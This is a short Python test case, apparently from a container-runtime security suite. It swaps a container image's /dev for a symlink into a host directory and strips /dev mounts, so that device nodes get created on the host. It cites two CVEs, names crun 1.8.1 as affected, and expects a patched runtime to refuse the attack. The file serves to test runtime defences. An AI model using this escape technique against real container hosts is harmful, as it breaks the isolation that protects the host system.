"""The image's /dev is a link to a directory of the host, and there is no mount at /dev: device nodes and links are made on the host."""

import os

from bypass import refused

SOURCE = "CVE-2026-41579, CVE-2026-47766"
WAY = "image content"
BARE = {"crun": "crun 1.8.1 makes the nodes below the root filesystem, wherever the link leads"}
STOPPED = refused("rootfs-symlink")


def attack(t):
    os.rmdir(t.rootfs + "/dev")
    os.makedirs(t.host + "/dev")
    os.symlink(t.host + "/dev", t.rootfs + "/dev")
    t.spec["mounts"] = [entry for entry in t.spec["mounts"] if not entry["destination"].startswith("/dev")]
    try:
        t.run("true")
    finally:
        made = os.listdir(t.host + "/dev")
    return made
